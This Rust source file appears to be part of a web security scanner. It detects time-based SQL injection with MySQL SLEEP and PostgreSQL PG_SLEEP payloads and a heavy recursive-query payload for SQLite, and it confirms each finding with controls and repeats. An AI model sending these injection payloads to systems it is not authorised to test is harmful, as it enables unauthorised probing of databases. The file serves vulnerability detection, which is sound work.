//! SQL injection by timing (see [`super::sqli`] for the other techniques): a bounded sleep
//! asked of the database (MySQL/MariaDB `SLEEP`, PostgreSQL `PG_SLEEP`, also concatenated into a
//! string so that an INSERT stays whole), and for SQLite, which cannot sleep, a heavy recursive
//! query whose time grows with its size. Every slow answer is confirmed by
//! [`super::probe::confirm_slow`].

use super::client::{Client, Page};
use super::probe::{confirm_slow, Confirmation};
use super::sqli::{is_number, send, MakeReq, Outcome};
use super::WebOptions;
use rampart_model::Evidence;
use rampart_net::NetError;
use std::time::Duration;

/// The delay time-based probes ask for: [`WebOptions::sqli_delay`] held to 0.5–2 s.
fn time_delay(opts: &WebOptions) -> Duration {
    opts.sqli_delay
        .min(Duration::from_secs(2))
        .max(Duration::from_millis(500))
}

/// Time-based: a bounded sleep (≤ 2 s) asked of the database delays the answer by that much
/// over `base_t` (the fastest of the answers to the original value, or to values answered just
/// like it: one answer slowed by a busy server must not hide a real delay), twice, and the
/// same payload with a zero sleep does not — that control and the repeat are what keep a
/// merely jittery page from being reported. When the zero sleep is slow as well, the place is
/// slow for any changed value (a cache miss, an unknown-user path): no template can tell, so it
/// stops there. One request per template when nothing is slow (two for text, six for a
/// number); at most 6 × 3, and [`heavy_query`] (SQLite, which has no sleep function): one
/// request when nothing is slow, at most 7. The templates' first requests and the heavy query's go out at once.
pub(crate) async fn time_based(
    client: &Client,
    mk: MakeReq<'_>,
    v: &str,
    base_t: Duration,
    opts: &WebOptions,
) -> Result<Outcome, NetError> {
    // Boxed: the checks nest deep, and a debug build's futures are large.
    super::client::asking_delay(Box::pin(async move {
    let delay = time_delay(opts);
    let secs = delay.as_secs_f64();
    let slow = |p: &Page| p.elapsed >= base_t + delay.mul_f64(0.9);
    let templates = [
        ("SLEEP()", "{v} AND SLEEP({d})", "{v} AND SLEEP(0)"),
        (
            "SLEEP()",
            "{v}' AND SLEEP({d})-- -",
            "{v}' AND SLEEP(0)-- -",
        ),
        (
            "PG_SLEEP()",
            "{v} AND 1=(SELECT 1 FROM PG_SLEEP({d}))",
            "{v} AND 1=(SELECT 1 FROM PG_SLEEP(0))",
        ),
        (
            "PG_SLEEP()",
            "{v}' AND 1=(SELECT 1 FROM PG_SLEEP({d}))-- -",
            "{v}' AND 1=(SELECT 1 FROM PG_SLEEP(0))-- -",
        ),
        // Concatenated into the string, nothing cut off: the statement stays whole where a
        // comment would leave `VALUES (` open (an INSERT or UPDATE). The subqueries do not
        // depend on a row, so each sleeps once per statement. MySQL's `||` is OR unless
        // PIPES_AS_CONCAT, so it gets `+` (numeric addition, both sides always evaluated).
        (
            "PG_SLEEP(), concatenated",
            "{v}'||(SELECT '' FROM PG_SLEEP({d}))||'",
            "{v}'||(SELECT '' FROM PG_SLEEP(0))||'",
        ),
        (
            "SLEEP(), concatenated",
            "{v}'+(SELECT 0 FROM (SELECT SLEEP({d}))x)+'",
            "{v}'+(SELECT 0 FROM (SELECT SLEEP(0))x)+'",
        ),
    ];
    // Named by the sleep function the database answered to (MySQL/MariaDB's SLEEP, PostgreSQL's
    // PG_SLEEP; an application may give another database the same function).
    // Unquoted shapes only for numbers (a word there is already a broken query). The quoted
    // shapes cut off by a comment only for numbers too: for text the concatenated shapes reach
    // every statement those do (MySQL's AND SLEEP() even runs only for rows that match), but a
    // number in quotes may stand for a numeric column, which PostgreSQL will not compare with
    // concatenated text.
    let d = format!("{secs:.1}");
    let tried: Vec<(&str, String, &str)> = templates
        .into_iter()
        .filter(|(db, _, _)| db.ends_with("concatenated") || is_number(v))
        .map(|(db, with, without)| (db, with.replace("{v}", v).replace("{d}", &d), without))
        .collect();
    // Every first probe at once, the heavy query's too: each mostly waits (on the rate limit,
    // or on a delay), and one after the other they would make a long chain for this parameter.
    let heavy = heavy_payload(v, HEAVY_START);
    let (firsts, heavy_first) = tokio::join!(
        futures_util::future::join_all(tried.iter().map(|(_, p, _)| send(client, mk, p))),
        send(client, mk, &heavy)
    );
    for ((db, p, without), first) in tried.into_iter().zip(firsts) {
        let Some(first) = first? else {
            continue;
        };
        if !slow(&first) {
            continue;
        }
        let zero = without.replace("{v}", v);
        match confirm_slow(client, &mk(&zero), &mk(&p), slow, slow).await? {
            Confirmation::ControlSlow => {
                tracing::debug!(
                    request = %mk(&zero).describe(),
                    "slow without a delay too: time-based probing stops here"
                );
                return Ok(Outcome::None);
            }
            Confirmation::NotAgain => continue,
            Confirmation::Confirmed { control: z, again } => {
                return Ok(Outcome::Found {
                how: format!("time-based, {db}"),
                evidence: Evidence {
                    request: Some(mk(&p).describe()),
                    response: Some(format!(
                        "answered after {:.2} s and {:.2} s; with a zero delay after {:.2} s; baseline {:.2} s",
                        first.elapsed.as_secs_f64(),
                        again.elapsed.as_secs_f64(),
                        z.elapsed.as_secs_f64(),
                        base_t.as_secs_f64()
                    )),
                    notes: vec![format!("asked for a {d} s delay twice")],
                },
            });
            }
        }
    }
    match heavy_first? {
        Some(first) => heavy_query(client, mk, v, base_t, first).await,
        None => Ok(Outcome::None),
    }
    }))
    .await
}

/// The heavy query's size the probing starts with (about 0.4–0.6 s of SQLite's time on a small
/// server), the largest size it scales up to, and how much slower than the original answer a
/// heavy answer must be.
const HEAVY_START: u64 = 2_000_000;
const HEAVY_MAX: u64 = 8_000_000;
const HEAVY_SLOW: Duration = Duration::from_millis(500);

/// `{v}'||(count of a recursive CTE of `n` rows)||'`: SQLite work that grows with `n`, spliced
/// into a string (SQLite's `||` concatenates; the statement stays whole).
fn heavy_payload(v: &str, n: u64) -> String {
    format!(
        "{v}'||(SELECT count(*) FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT {n}) SELECT x FROM c))||'"
    )
}

/// SQLite, which has no sleep: a recursive CTE counting to N cannot ask for an exact delay, so
/// the proof is its shape: N rows answer at least [`HEAVY_SLOW`] slower than the original twice,
/// one row (`LIMIT 1`, the same text otherwise) does not, and 2N rows clearly slower than N
/// (≥ 1.3 × the faster answer at N) — a page slow for any odd or long value fails the control,
/// one slow at random fails the repeat or the doubling. The work is the server's CPU, so other
/// heavy work (another parameter's heavy query) can slow the answers at N and not the one at 2N:
/// when the doubling fails, N and 2N go once more, one after the other, and are compared. N
/// starts at [`HEAVY_START`]; an answer slowed by less than twice the bar (a fast machine, or
/// just over it) scales it once, aiming at 1.2 s, up to [`HEAVY_MAX`]. `first` is the answer to
/// N = [`HEAVY_START`], sent with the sleep templates; no more requests when it is not slowed by
/// 0.1 s; at most 7 (sizes N, 2N and 1; at most three sizes); the one-row control and the
/// repeat confirmed by [`confirm_slow`].
async fn heavy_query(
    client: &Client,
    mk: MakeReq<'_>,
    v: &str,
    base_t: Duration,
    mut first: Page,
) -> Result<Outcome, NetError> {
    let excess = |p: &Page| p.elapsed.saturating_sub(base_t);
    let mut n = HEAVY_START;
    let e = excess(&first).as_secs_f64();
    if e < 0.1 {
        return Ok(Outcome::None);
    }
    if e < 2.0 * HEAVY_SLOW.as_secs_f64() {
        // Slowed, but near the bar: aim at over a second of work, so that the repeat does not
        // fall under it by chance.
        let factor = (1.2 / e).ceil().clamp(2.0, 4.0) as u64;
        n = (n * factor).min(HEAVY_MAX);
        let Some(p) = send(client, mk, &heavy_payload(v, n)).await? else {
            return Ok(Outcome::None);
        };
        if excess(&p) < HEAVY_SLOW {
            return Ok(Outcome::None);
        }
        first = p;
    }
    let control = heavy_payload(v, 1);
    let p = heavy_payload(v, n);
    let first_excess = excess(&first);
    let control_slow = |z: &Page| excess(z) >= HEAVY_SLOW || excess(z) * 2 > first_excess;
    let heavy_again = |a: &Page| excess(a) >= HEAVY_SLOW;
    let (z, again) =
        match confirm_slow(client, &mk(&control), &mk(&p), control_slow, heavy_again).await? {
            Confirmation::Confirmed { control, again } => (control, again),
            Confirmation::ControlSlow => {
                tracing::debug!(
                    request = %mk(&control).describe(),
                    "slow with a one-row query too: the heavy query proves nothing here"
                );
                return Ok(Outcome::None);
            }
            Confirmation::NotAgain => return Ok(Outcome::None),
        };
    let Some(double) = send(client, mk, &heavy_payload(v, 2 * n)).await? else {
        return Ok(Outcome::None);
    };
    // The faster of the two answers at N: with the checks side by side, other heavy work on the
    // server (another parameter's heavy query) may have slowed one of them.
    let at_n = excess(&first).min(excess(&again));
    let double = if excess(&double) >= at_n.mul_f64(1.3) {
        double
    } else {
        // The answers at N may have shared the server's CPU with other heavy work while the
        // double one ran alone (or the reverse): N and 2N once more, one after the other, so
        // that the two compared ran under the same load.
        let Some(at_n_now) = send(client, mk, &p).await? else {
            return Ok(Outcome::None);
        };
        let Some(double_now) = send(client, mk, &heavy_payload(v, 2 * n)).await? else {
            return Ok(Outcome::None);
        };
        if !heavy_again(&at_n_now) || excess(&double_now) < excess(&at_n_now).mul_f64(1.3) {
            return Ok(Outcome::None);
        }
        double_now
    };
    Ok(Outcome::Found {
        how: "time-based, SQLite heavy query, concatenated".into(),
        evidence: Evidence {
            request: Some(mk(&p).describe()),
            response: Some(format!(
                "{n} rows: answered after {:.2} s and {:.2} s; {} rows: {:.2} s; 1 row (LIMIT 1): {:.2} s; baseline {:.2} s",
                first.elapsed.as_secs_f64(),
                again.elapsed.as_secs_f64(),
                2 * n,
                double.elapsed.as_secs_f64(),
                z.elapsed.as_secs_f64(),
                base_t.as_secs_f64()
            )),
            notes: vec![
                "SQLite has no sleep: the work of a recursive CTE counting rows grows with their number, and a one-row count is fast".into(),
            ],
        },
    })
}
